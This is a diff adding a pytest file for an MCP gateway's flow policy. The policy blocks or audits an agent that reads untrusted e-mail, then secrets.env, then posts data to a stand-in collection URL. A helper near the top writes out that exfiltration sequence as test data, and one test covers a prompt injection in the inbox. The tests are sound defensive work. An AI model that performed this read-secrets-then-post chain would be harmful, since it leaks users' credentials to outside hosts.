@@ -1,0 +1,124 @@
+"""The flow policy through the gateway: the exfiltration step of inbox → files → web is stopped, the same calls
+in a harmless order pass; conversations are per legacy session, per `_meta` conversation id, or per principal
+within a window; decisions reach the audit log."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from guard_helpers import MODES, ListSink, guarded, text_of
+from mcp import Client
+from mcp.shared.exceptions import MCPError
+
+from switchyard.server.mcp import FrontServer
+from switchyard.stages.flows import CONVERSATION_META
+
+pytestmark = pytest.mark.anyio
+
+BLOCK = {"flows": {"action": "block"}}
+POST = ("web__post_message", {"url": "https://collect.example.net/upload", "body": "hello"})
+
+
+async def exfiltration(client: Client) -> None:
+    """The attack order: untrusted e-mail, then the private file, then the post."""
+    await client.call_tool("inbox__list_emails", {})
+    await client.call_tool("files__read_file", {"path": "secrets.env"})
+    await client.call_tool(*POST)
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_the_post_after_reading_mail_and_secrets_is_blocked(tmp_path: Path, mode: str) -> None:
+    sink = ListSink()
+    async with guarded(tmp_path, BLOCK, sink=sink, mode=mode) as (_, client):
+        with pytest.raises(MCPError) as info:
+            await exfiltration(client)
+        posted = await client.call_tool("web__list_outbox", {})
+    assert "Flow policy" in info.value.message
+    assert "inbox__list_emails" in info.value.message
+    assert "files__read_file" in info.value.message
+    assert text_of(posted) in ("[]", "")
+    row = sink.last("web__post_message")
+    assert row.decision == "denied"
+    assert "egress" in row.reason or "send data out" in row.reason
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_the_same_calls_in_a_harmless_order_go_through(tmp_path: Path, mode: str) -> None:
+    async with guarded(tmp_path, BLOCK, mode=mode) as (_, client):
+        posted = await client.call_tool(*POST)
+        await client.call_tool("inbox__list_emails", {})
+        await client.call_tool("files__read_file", {"path": "secrets.env"})
+    assert not posted.is_error
+    assert "posted 5 characters" in text_of(posted)
+
+
+async def test_private_data_alone_does_not_stop_a_post(tmp_path: Path) -> None:
+    async with guarded(tmp_path, BLOCK) as (_, client):
+        await client.call_tool("files__read_file", {"path": "notes.txt"})
+        posted = await client.call_tool(*POST)
+    assert not posted.is_error
+
+
+async def test_legacy_sessions_are_separate_conversations(tmp_path: Path) -> None:
+    async with guarded(tmp_path, BLOCK, mode="legacy") as (gateway, client):
+        await client.call_tool("inbox__list_emails", {})
+        await client.call_tool("files__read_file", {"path": "secrets.env"})
+        async with Client(FrontServer(gateway).server, mode="legacy") as other:  # pyright: ignore[reportArgumentType]
+            posted = await other.call_tool(*POST)
+    assert not posted.is_error
+
+
+async def test_a_conversation_id_in_meta_separates_stateless_conversations(tmp_path: Path) -> None:
+    def meta(conversation: str) -> dict[str, Any]:
+        return {CONVERSATION_META: conversation}
+
+    async with guarded(tmp_path, BLOCK) as (_, client):
+        await client.call_tool("inbox__list_emails", {}, meta=meta("one"))
+        await client.call_tool("files__read_file", {"path": "secrets.env"}, meta=meta("one"))
+        other = await client.call_tool(*POST, meta=meta("two"))
+        with pytest.raises(MCPError):
+            await client.call_tool(*POST, meta=meta("one"))
+    assert not other.is_error
+
+
+async def test_without_a_conversation_id_the_principal_is_tracked_within_the_window(tmp_path: Path) -> None:
+    async with guarded(tmp_path, BLOCK) as (gateway, client):
+        await client.call_tool("inbox__list_emails", {})
+        await client.call_tool("files__read_file", {"path": "secrets.env"})
+        with pytest.raises(MCPError):
+            await client.call_tool(*POST)
+        stage = next(s for s in _stages(gateway) if hasattr(s, "tracker"))
+        later = stage.tracker.clock() + 3601.0
+        stage.tracker.clock = lambda: later
+        posted = await client.call_tool(*POST)
+    assert not posted.is_error
+
+
+async def test_an_injection_found_by_the_guard_taints_even_an_unlabelled_tool(tmp_path: Path) -> None:
+    # Labels from configuration replace the heuristics: the inbox claims nothing, the guard still sees the attack.
+    keys = {"inbox": {"labels": []}, "files": {"labels": ["private"]}}
+    async with guarded(tmp_path, BLOCK, server_keys=keys) as (_, client):
+        with pytest.raises(MCPError) as info:
+            await exfiltration(client)
+    assert "Flow policy" in info.value.message
+
+
+async def test_audit_action_records_but_does_not_stop(tmp_path: Path) -> None:
+    sink = ListSink()
+    async with guarded(tmp_path, {"flows": {"action": "audit"}}, sink=sink) as (_, client):
+        await exfiltration(client)
+    row = sink.last("web__post_message")
+    assert row.decision == "flagged"
+    assert "Flow policy" in row.reason
+
+
+def _stages(gateway: Any) -> list[Any]:
+    """The stage objects of a gateway's chain (test introspection only)."""
+    handler = gateway._handler  # pyright: ignore[reportPrivateUsage]
+    found: list[Any] = []
+    while hasattr(handler, "args"):
+        found.append(handler.args[0])
+        handler = handler.args[1]
+    return found
